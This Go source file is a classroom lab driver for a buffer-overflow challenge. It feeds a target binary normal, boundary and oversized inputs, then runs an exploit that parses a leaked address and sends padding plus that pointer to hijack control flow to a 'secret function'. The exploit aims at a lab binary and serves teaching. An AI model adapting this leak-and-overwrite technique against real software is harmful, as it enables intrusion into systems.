/*
Author: KleaSCM
Email: KleaSCM@gmail.com
File: Smashlab.go
Description: Standalone lab driver for Smashlab. Runs the challenge binary through the canonical teaching scenarios - polite input, boundary input, oversized garbage, and the real exploit - capturing output, exit codes, and durations for each. Writes JSON results to ./lab_output. Small, self-contained, and classroom friendly.
*/

package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"github.com/kleascm/smashlab/pkg/exploit"
	"github.com/kleascm/smashlab/pkg/payload"
	"github.com/kleascm/smashlab/pkg/stack"
)

type ScenarioResult struct {
	Scenario string `json:"scenario"`
	Input    string `json:"input,omitempty"`
	Status   string `json:"status"`
	Error    string `json:"error,omitempty"`
	Output   string `json:"output,omitempty"`
	ExitCode int    `json:"exit_code"`
	Duration string `json:"duration"`
}

func runScenario(targetPath, name string, input []byte) ScenarioResult {
	start := time.Now()

	cmd := exec.Command(targetPath)
	cmd.Stdin = bytes.NewReader(append(input, '\n'))
	var outBuf bytes.Buffer
	cmd.Stdout = &outBuf
	cmd.Stderr = &outBuf

	err := cmd.Run()

	result := ScenarioResult{
		Scenario: name,
		Input:    fmt.Sprintf("%q", input),
		Status:   "ok",
		Output:   outBuf.String(),
		Duration: time.Since(start).String(),
	}

	if err != nil {
		var exitErr *exec.ExitError
		if errors.As(err, &exitErr) {
			result.ExitCode = exitErr.ExitCode()
			result.Status = "nonzero-exit"
		} else {
			result.Status = "error"
			result.Error = err.Error()
		}
	}

	return result
}

// runExploitScenario does the leak-then-smash dance: read the leaked
// address from a first run, then feed padding plus that address back.
func runExploitScenario(targetPath string) ScenarioResult {
	start := time.Now()

	cmd := exec.Command(targetPath)
	stdin, err := cmd.StdinPipe()
	if err != nil {
		return ScenarioResult{Scenario: "exploit", Status: "error", Error: err.Error(), Duration: time.Since(start).String()}
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		return ScenarioResult{Scenario: "exploit", Status: "error", Error: err.Error(), Duration: time.Since(start).String()}
	}
	if err := cmd.Start(); err != nil {
		return ScenarioResult{Scenario: "exploit", Status: "error", Error: err.Error(), Duration: time.Since(start).String()}
	}

	pm := payload.NewPointerMaker()
	var output bytes.Buffer
	var leak *payload.Pointer

	scanner := bufio.NewScanner(stdout)
	for scanner.Scan() {
		line := scanner.Text()
		output.WriteString(line + "\n")
		if ptr, err := exploit.ParseLeakedAddress(pm, line); err == nil {
			leak = &ptr
			break
		}
	}

	result := ScenarioResult{Scenario: "exploit", Status: "ok"}

	if leak == nil {
		stdin.Close()
		cmd.Wait()
		result.Status = "error"
		result.Error = "no leaked address in target output"
		result.Output = output.String()
		result.Duration = time.Since(start).String()
		return result
	}

	crafted, err := payload.NewBuilder().
		RepeatByte('A', stack.BufferCapacity).
		Pointer(*leak).
		Build()
	if err != nil {
		stdin.Close()
		cmd.Wait()
		result.Status = "error"
		result.Error = err.Error()
		result.Duration = time.Since(start).String()
		return result
	}

	stdin.Write(append(crafted, '\n'))
	stdin.Close()

	for scanner.Scan() {
		output.WriteString(scanner.Text() + "\n")
	}

	if err := cmd.Wait(); err != nil {
		var exitErr *exec.ExitError
		if errors.As(err, &exitErr) {
			result.ExitCode = exitErr.ExitCode()
			result.Status = "nonzero-exit"
		}
	}

	result.Input = fmt.Sprintf("%q", crafted)
	result.Output = output.String()
	result.Duration = time.Since(start).String()
	if !strings.Contains(result.Output, "secret function") {
		result.Status = "no-hijack"
	}

	return result
}

func main() {
	if len(os.Args) < 2 {
		fmt.Println("Usage: smashlab-driver <challenge-binary>")
		os.Exit(1)
	}
	targetPath := os.Args[1]

	if _, err := os.Stat(targetPath); err != nil {
		fmt.Println("Challenge binary not found:", err)
		os.Exit(1)
	}

	boundary := bytes.Repeat([]byte{'B'}, stack.BufferCapacity)
	oversized := bytes.Repeat([]byte{'C'}, stack.BufferCapacity*3)

	results := []ScenarioResult{
		runScenario(targetPath, "polite", []byte("smasher")),
		runScenario(targetPath, "boundary", boundary),
		runScenario(targetPath, "oversized-garbage", oversized),
		runExploitScenario(targetPath),
	}

	outDir := "./lab_output"
	if err := os.MkdirAll(outDir, 0755); err != nil {
		fmt.Println("Failed to create output directory:", err)
		os.Exit(1)
	}

	data, err := json.MarshalIndent(results, "", "  ")
	if err != nil {
		fmt.Println("Failed to marshal results:", err)
		os.Exit(1)
	}

	outPath := filepath.Join(outDir, fmt.Sprintf("lab_run_%d.json", time.Now().Unix()))
	if err := os.WriteFile(outPath, data, 0644); err != nil {
		fmt.Println("Failed to write results:", err)
		os.Exit(1)
	}

	for _, r := range results {
		fmt.Printf("%-18s status=%-13s exit=%d\n", r.Scenario, r.Status, r.ExitCode)
	}
	fmt.Println("Results written to", outPath)
}
